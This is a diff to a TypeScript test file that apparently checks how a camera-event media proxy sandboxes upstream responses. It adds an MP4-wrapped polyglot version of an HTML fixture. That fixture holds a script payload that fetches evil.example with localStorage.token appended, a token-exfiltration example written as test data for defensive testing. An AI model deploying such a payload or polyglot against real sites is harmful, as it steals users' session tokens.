@@ -9,6 +9,8 @@ import { until } from '../support/until.ts'
 const EVENT = { id: '1.1-a', camera: 'Door', label: 'car', start_time: 1, end_time: 2 }
 const PAGE = '<!doctype html><script>fetch("//evil.example/?" + localStorage.token)</script>'
 const SANDBOX = 'sandbox allow-same-origin'
+/** A page in an MP4: as a clip it is one. */
+const FILE = Buffer.concat([Buffer.from([0, 0, 0, PAGE.length + 8]), Buffer.from(`mdat${PAGE}`)])
 const FOLDER = `/vod/event/${EVENT.id}`
 
 /** What upstreams are to answer where, and the type that they have for it. */
@@ -28,7 +30,10 @@ const MEDIA: Readonly<Record<string, string>> = {
 /** The server between upstreams that call everything this, or what it is. */
 async function startCalled(t: Test, version: string, type: string | undefined) {
   const media: Answers = Object.fromEntries(
-    Object.entries(MEDIA).map(([path, own]) => [path, typed(type ?? own, PAGE)]),
+    Object.entries(MEDIA).map(([path, own]) => [
+      path,
+      typed(type ?? own, path.endsWith('clip.mp4') ? FILE : PAGE),
+    ]),
   )
   const upstream = await startScripted(t, {
     ...media,
